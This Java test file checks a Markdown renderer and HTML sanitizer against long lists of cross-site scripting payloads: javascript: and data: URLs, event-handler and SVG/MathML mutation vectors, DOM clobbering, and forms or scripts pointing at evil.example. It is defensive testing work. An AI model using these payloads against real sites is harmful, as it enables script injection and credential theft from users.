package org.preau.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Element;
import org.jsoup.nodes.Node;
import org.junit.jupiter.api.Test;

/**
 * What attackers write, through both walls and through each alone, judged on the parsed page by a
 * list of its own.
 *
 * <p>The renderer alone must already be safe (first test), the policy alone too (second): taking
 * one away leaves the first green and turns the other red. {@code the_judge_sees_what_it_should} is
 * the judge's own control.
 */
class HostileTextTest {
    private static final Set<String> ANY = Set.of("id", "class");
    private static final Map<String, Set<String>> ALLOWED =
            Map.ofEntries(
                    Map.entry("a", Set.of("href", "title", "rel", "aria-label")),
                    Map.entry(
                            "img", Set.of("src", "alt", "width", "height", "loading", "decoding")),
                    Map.entry("div", Set.of("role", "tabindex", "aria-label")),
                    Map.entry("section", Set.of("aria-labelledby")),
                    Map.entry("ol", Set.of("start")),
                    Map.entry("th", Set.of("scope")),
                    Map.entry("pre", Set.of("tabindex")),
                    Map.entry("audio", Set.of("controls", "preload", "aria-label")),
                    Map.entry("video", Set.of("controls", "preload", "aria-label")),
                    Map.entry("source", Set.of("src", "type")),
                    Map.entry("track", Set.of("src", "kind", "srclang", "label", "default")));
    private static final Set<String> BARE =
            Set.of(
                    "p",
                    "br",
                    "hr",
                    "h2",
                    "h3",
                    "h4",
                    "h5",
                    "h6",
                    "ul",
                    "li",
                    "blockquote",
                    "figure",
                    "figcaption",
                    "details",
                    "summary",
                    "code",
                    "em",
                    "strong",
                    "del",
                    "sup",
                    "sub",
                    "kbd",
                    "mark",
                    "table",
                    "caption",
                    "thead",
                    "tbody",
                    "tr",
                    "td");

    static final List<String> ADDRESSES =
            List.of(
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    " javascript:alert(1)",
                    "\u0001javascript:alert(1)",
                    "java\tscript:alert(1)",
                    "java\nscript:alert(1)",
                    "java&#10;script:alert(1)",
                    "java&Tab;script:alert(1)",
                    "&#106;avascript:alert(1)",
                    "&#x6A;&#x61;vascript:alert(1)",
                    "javascript&colon;alert(1)",
                    "javascript&#58;alert(1)",
                    "java\\script:alert(1)",
                    "\u00A0javascript:alert(1)",
                    "\u200Bjavascript:alert(1)",
                    "\u2028javascript:alert(1)",
                    "javascript://https://a.fr/%0aalert(1)",
                    "vbscript:msgbox(1)",
                    "VBSCRIPT&#58;x",
                    "data:text/html,<script>alert(1)</script>",
                    "data:text/html;base64,PHNjcmlwdD4=",
                    "data:image/svg+xml,<svg onload=alert(1)>",
                    "feed:javascript:alert(1)",
                    "view-source:javascript:alert(1)",
                    "blob:https://a.fr/1",
                    "file:///etc/passwd",
                    "//evil.example/x.png",
                    "/\\evil.example/x.png",
                    "\\\\evil.example/x.png",
                    "http:evil.example",
                    "https:/evil.example",
                    "/media/../../x.png",
                    "/media/%2E%2e/x.png",
                    "/media/\" onerror=\"alert(1)",
                    "/media/x.png' onerror='alert(1)",
                    "/media/`onerror=alert(1)",
                    "https://evil.example/x.png");

    static final List<String> MARKUP =
            List.of(
                    "<script>alert(1)</script>",
                    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img/src='x'/onerror=alert(1)//",
                    "<img src=\"/media/a.png\" onload=\"alert(1)\" style=\"position:fixed\">",
                    "<svg onload=alert(1)>",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                    "<math href=\"javascript:alert(1)\">x</math>",
                    "<base href=\"https://evil.example/\">",
                    "<form action=\"https://evil.example\"><input name=password><button>ok</button></form>",
                    "<button formaction=javascript:alert(1)>x</button>",
                    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
                    "<p style=\"background:url(javascript:alert(1))\">x</p>",
                    "<div style=\"position:fixed;inset:0\">x</div>",
                    "<iframe src=javascript:alert(1)></iframe>",
                    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                    "<object data=javascript:alert(1)></object>",
                    "<embed src=data:text/html,x>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<details open ontoggle=alert(1)>x</details>",
                    "<body onload=alert(1)>",
                    "<input autofocus onfocus=alert(1)>",
                    "<a id=contenu name=getElementById class=button target=_blank href=/x>x</a>",
                    "<h2 id=\"contenu\">x</h2><h2 id=\"t-a b\">y</h2>",
                    "<form id=document><input name=cookie></form>",
                    "<img name=body id=head src=/media/a.png>",
                    "<template><script>alert(1)</script></template>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
                    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
                    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
                    "<plaintext><script>alert(1)</script>",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<!-- --!><img src=x onerror=alert(1)>-->",
                    "<![CDATA[<img src=x onerror=alert(1)>]]>",
                    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                    "<svg></p><style><g title=\"</style><img src onerror=alert(1)>\">",
                    "<table><td><svg><desc><td><style><a title=\"</style><img src onerror=alert(1)>\">",
                    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
                    "<a href=\"/x\" title='\"><img src=x onerror=alert(1)>'>x</a>",
                    "<a href=\"/x\" title=\"``onmouseover=alert(1)\">x</a>",
                    "<p aria-label=x role=button tabindex=5 contenteditable accesskey=x>y</p>",
                    "<div role=dialog tabindex=1 class=\"site-header\" data-x=1 is=x slot=y part=z>x</div>",
                    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
                    "<x-element onclick=alert(1)>x</x-element>",
                    "{{constructor.constructor('alert(1)')()}}",
                    "<b\u0000><img\u0000 src=x onerror=alert(1)>",
                    "<ımg src=x onerror=alert(1)>",
                    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E");

    @Test
    void nothing_hostile_passes_the_renderer_and_the_policy() {
        for (String source : sources()) {
            assertHarmless(Samples.render(source).html(), source);
        }
    }

    @Test
    void nothing_hostile_passes_the_renderer_alone() {
        for (String source : sources()) {
            assertHarmless(Markdown.unchecked(CleanInput.text(source), Samples.ARTICLE), source);
        }
    }

    @Test
    void nothing_hostile_passes_the_policy_alone() {
        for (String markup : MARKUP) {
            assertHarmless(HtmlPolicy.clean(markup, Samples.ARTICLE), markup);
            assertHarmless(
                    HtmlPolicy.clean(
                            "<div class=\"callout\">" + markup + "</div>", Samples.ARTICLE),
                    markup);
        }
        for (String address : ADDRESSES) {
            String quoted = address.replace("\"", "&quot;");
            String markup =
                    "<a href=\"" + quoted + "\">x</a><img src=\"" + quoted + "\" alt=\"y\">";
            assertHarmless(HtmlPolicy.clean(markup, Samples.ARTICLE), markup);
        }
    }

    @Test
    void what_is_cleaned_twice_does_not_change_its_meaning() {
        for (String markup : MARKUP) {
            String once = HtmlPolicy.clean(markup, Samples.ARTICLE);
            String reparsed = Jsoup.parseBodyFragment(once).body().html();
            assertHarmless(reparsed, markup);
            assertHarmless(HtmlPolicy.clean(reparsed, Samples.ARTICLE), markup);
        }
    }

    @Test
    void the_policy_lets_everything_pass_that_the_renderer_writes() {
        String source =
                "# T\n\na[^1] [b](/c \"d\") <sup>e</sup>\n\n![f](/media/plan.svg \"g\")\n\n![h](/media/i) ![j](/media/k)\n\n"
                        + "|l|m|\n|-|-:|\n|n|o|\n[p]\n\n> q\n> -- r\n\n> [!WARNING] s\n> t\n\n3. u\n\n```\nv\n```\n\n![x](/media/y.mp4 \"z\")\n[a](/media/a-en.vtt)\n[b](/c)\n\nhttps://vimeo.com/123456\n\n[^1]: w";
        String unchecked = Markdown.unchecked(source, Samples.ARTICLE);

        assertThat(shape(Samples.html(source)))
                .contains(
                        "figure.image",
                        "figure.video",
                        "track",
                        "div.embed",
                        "ul.gallery",
                        "figure.quote",
                        "div.callout callout-warning",
                        "div.table-scroll",
                        "td.cell-end",
                        "sup.footnote-ref",
                        "section.footnotes",
                        "a.footnote-back",
                        "ol",
                        "pre");
        assertThat(shape(HtmlPolicy.clean(unchecked, Samples.ARTICLE))).isEqualTo(shape(unchecked));
    }

    @Test
    void random_mixtures_stay_harmless() {
        long seed = new Random().nextLong();
        Random random = new Random(seed);
        List<String> crumbs = new ArrayList<>(MARKUP);
        crumbs.addAll(
                List.of(
                        "](",
                        "[",
                        "![",
                        ")",
                        "<",
                        ">",
                        "\"",
                        "'",
                        "`",
                        "*",
                        "_",
                        "\n\n",
                        "\n> ",
                        "|",
                        "\n|-|-|\n",
                        "[^1]",
                        "\n[^1]: ",
                        "\n[a]: javascript:x\n",
                        "[a]",
                        "\\",
                        "&lt;",
                        "&#60;",
                        "<sup>",
                        "</sup>",
                        "<br>",
                        "http://a.b/\"x"));
        for (int i = 0; i < 3_000; i++) {
            StringBuilder source = new StringBuilder();
            for (int n = random.nextInt(8); n >= 0; n--) {
                String crumb = crumbs.get(random.nextInt(crumbs.size()));
                source.append(
                        random.nextBoolean()
                                ? crumb
                                : crumb.substring(random.nextInt(crumb.length())));
            }
            assertHarmless(
                    Samples.render(source.toString()).html(), "seed " + seed + ": " + source);
            assertHarmless(
                    HtmlPolicy.clean(source.toString(), Samples.ARTICLE),
                    "seed " + seed + ": " + source);
        }
    }

    @Test
    void the_judge_sees_what_it_should() {
        List<String> unsafe = new ArrayList<>();
        for (String markup : MARKUP.subList(0, 53)) {
            if (!faults(markup).isEmpty()) {
                unsafe.add(markup);
            }
        }
        assertThat(unsafe).hasSizeGreaterThanOrEqualTo(48);
        assertThat(faults("<a href=\"java\tscript:x\">x</a>")).isNotEmpty();
        assertThat(faults("<img src=\"//evil/x\">")).isNotEmpty();
        assertThat(faults("<p id=\"contenu\">x</p>")).isNotEmpty();
        assertThat(faults("<p class=\"button\">x</p>")).isNotEmpty();
    }

    /**
     * Every hostile address in every place that takes one, and every piece of markup in every place
     * that takes text.
     */
    private static List<String> sources() {
        List<String> sources = new ArrayList<>();
        for (String address : ADDRESSES) {
            for (String form :
                    List.of(
                            "[x](%s)",
                            "[x](<%s>)",
                            "![y](%s)",
                            "![y](<%s> \"t\")",
                            "<%s>",
                            "%s",
                            "[x]\n\n[x]: %s",
                            "[x]\n\n[x]: <%s>",
                            "![y][x]\n\n[x]: <%s>",
                            "![y](%s/a.mp4)",
                            "![y](/media/a.mp4)\n[x](%s)\n[z](%s.vtt)",
                            "[![y](%s)](%s)")) {
                sources.add(form.replace("%s", address));
            }
        }
        for (String markup : MARKUP) {
            for (String form :
                    List.of(
                            "%s",
                            "a %s b",
                            "# %s",
                            "> %s",
                            "- %s",
                            "|%s|b|\n|-|-|\n|c|%s|",
                            "[%s](/x)",
                            "![%s](/media/a)",
                            "[x](/y \"%s\")",
                            "![x](/media/a '%s')",
                            "![%s](/media/a.mp4 '%s')\n[%s](/media/a-fr.vtt)",
                            "[%s](https://youtu.be/dQw4w9WgXcQ)",
                            "`%s`",
                            "    %s",
                            "```%s\n%s\n```",
                            "a[^1]\n\n[^1]: %s",
                            "> [!NOTE] %s\n> b",
                            "> a\n> -- %s",
                            "[^%s]")) {
                sources.add(form.replace("%s", markup));
            }
        }
        return sources;
    }

    private static void assertHarmless(String html, String source) {
        assertThat(faults(html)).as("source <%s> gave <%s>", source, html).isEmpty();
    }

    private static List<String> faults(String html) {
        List<String> faults = new ArrayList<>();
        org.jsoup.nodes.Document page = Jsoup.parse(html);
        page.head().childNodes().forEach(node -> faults.add("in the head: " + node));
        page.body().attributes().forEach(attribute -> faults.add("on the body: " + attribute));
        page.body().traverse((node, depth) -> judge(node, faults));
        return faults;
    }

    private static void judge(Node node, List<String> faults) {
        if (node instanceof Comment comment && !comment.getData().isBlank()) {
            faults.add("comment " + comment);
        }
        if (!(node instanceof Element element) || element.normalName().equals("body")) {
            return;
        }
        String name = element.normalName();
        if (!BARE.contains(name) && !ALLOWED.containsKey(name)) {
            faults.add("element " + name);
        }
        for (Attribute attribute : element.attributes()) {
            String key = attribute.getKey().toLowerCase(Locale.ROOT);
            if (!ANY.contains(key) && !ALLOWED.getOrDefault(name, Set.of()).contains(key)) {
                faults.add("attribute " + key + " of " + name);
            } else if (!isHarmless(key, attribute.getValue())) {
                faults.add(key + "=" + attribute.getValue());
            }
        }
        if (name.equals("img") && !element.hasAttr("src")) {
            faults.add("an image of nothing");
        }
    }

    private static boolean isHarmless(String key, String value) {
        return switch (key) {
            case "id", "aria-labelledby" -> value.matches("t-[a-z0-9_-]+");
            case "class" ->
                    Set.of(
                                    "image",
                                    "gallery",
                                    "video",
                                    "audio",
                                    "embed",
                                    "embed-title",
                                    "transcript",
                                    "quote",
                                    "table-scroll",
                                    "callout",
                                    "callout callout-warning",
                                    "callout-title",
                                    "footnote-ref",
                                    "footnotes",
                                    "footnote-back",
                                    "cell-end",
                                    "cell-center")
                            .contains(value);
            case "href" ->
                    value.matches(
                                    "(?s)(https?://|mailto:|tel:|#|\\?|/(?![/\\\\])|[^:/?#\\\\]*([/?#]|$)).*")
                            && isPrintable(value);
            case "src" ->
                    value.startsWith("/media/")
                            && !value.contains("..")
                            && !value.toLowerCase(Locale.ROOT).contains("%2e")
                            && isPrintable(value);
            case "rel" -> value.equals("noopener");
            case "role" -> Set.of("region", "note").contains(value);
            case "tabindex" -> value.equals("0");
            case "scope" -> Set.of("col", "row").contains(value);
            case "width", "height", "start" -> value.matches("[0-9]+");
            case "controls", "default" -> value.equals(key);
            case "preload" -> value.equals("none");
            case "kind" -> value.equals("captions");
            case "srclang" -> value.matches("[a-z]{2}");
            case "type" -> value.matches("(audio|video)/[a-z0-9]+");
            case "loading" -> value.equals("lazy");
            case "decoding" -> value.equals("async");
            default -> true;
        };
    }

    private static boolean isPrintable(String address) {
        return address.codePoints()
                .noneMatch(c ->
                        c <= ' '
                                || Character.getType(c) == Character.FORMAT
                                || Character.isWhitespace(c));
    }

    private static List<String> shape(String html) {
        List<String> shape = new ArrayList<>();
        Jsoup.parseBodyFragment(html)
                .body()
                .select("*")
                .forEach(element ->
                        shape.add(
                                element.normalName()
                                        + (element.className().isEmpty()
                                                ? ""
                                                : "." + element.className())));
        return shape;
    }
}
